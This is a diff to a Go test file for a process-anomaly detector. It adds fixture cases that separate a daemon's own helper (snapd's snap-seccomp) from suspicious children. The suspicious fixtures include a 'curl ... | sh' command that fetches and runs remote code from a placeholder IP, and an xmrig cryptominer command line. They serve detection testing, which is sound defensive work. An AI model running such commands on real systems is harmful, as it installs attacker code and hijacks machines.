@@ -73,6 +73,17 @@ func TestClusterYoungProcesses(t *testing.T) {
 				proc("9002", "sh", "/usr/bin/dash", "/bin/sh -c    cd / && run-parts --report /etc/cron.hourly; curl -s http://203.0.113.9/x | sh", "0", "9001"),
 				proc("9003", "curl", "/usr/bin/curl", "curl -s http://203.0.113.9/x", "0", "9002"))
 		}, "it is part of none of the host's own work"},
+		{"a daemon's own helper, from its package's directory", func(h varHost) {
+			h.add("processes", proc("9001", "snap-seccomp", "/usr/lib/snapd/snap-seccomp",
+				"/usr/lib/snapd/snap-seccomp compile /var/lib/snapd/seccomp/bpf/snap.x.src /var/lib/snapd/seccomp/bpf/snap.x.bin2", "0", "4711"))
+		}, ""},
+		{"a shell a daemon starts", func(h varHost) {
+			h.add("processes", proc("9001", "sh", "/usr/bin/dash", "/bin/sh -c curl -s http://203.0.113.9/x | sh", "0", "4711"),
+				proc("9002", "curl", "/usr/bin/curl", "curl -s http://203.0.113.9/x", "0", "9001"))
+		}, "it is part of none of the host's own work"},
+		{"a program a daemon starts from outside its package's directory", func(h varHost) {
+			h.add("processes", proc("9001", "xmrig", "/usr/lib/xmrig/xmrig", "/usr/lib/xmrig/xmrig -o pool.example:3333", "0", "4711"))
+		}, "it is part of none of the host's own work"},
 		{"booting", func(h varHost) {
 			for _, r := range h["processes"] {
 				r["start_time"] = young
@@ -89,6 +100,9 @@ func TestClusterYoungProcesses(t *testing.T) {
 				// kthreadd, the kernel threads' parent: another process
 				// without a parent, with more children than init.
 				h.add("processes", collect.Row{"pid": "2", "name": "kthreadd", "path": "", "cmdline": "", "uid": "0", "parent": "0", "start_time": "1"})
+				// snapd, a daemon up since boot, whose helpers live in its
+				// package's directory.
+				h.add("processes", collect.Row{"pid": "4711", "name": "snapd", "path": "/usr/lib/snapd/snapd", "cmdline": "/usr/lib/snapd/snapd", "uid": "0", "parent": "1", "start_time": "1"})
 				for k := range 8 {
 					h.add("processes", collect.Row{"pid": fmt.Sprint(3 + k), "name": fmt.Sprintf("ksoftirqd/%d", k), "path": "", "cmdline": "", "uid": "0", "parent": "2", "start_time": "1"})
 				}
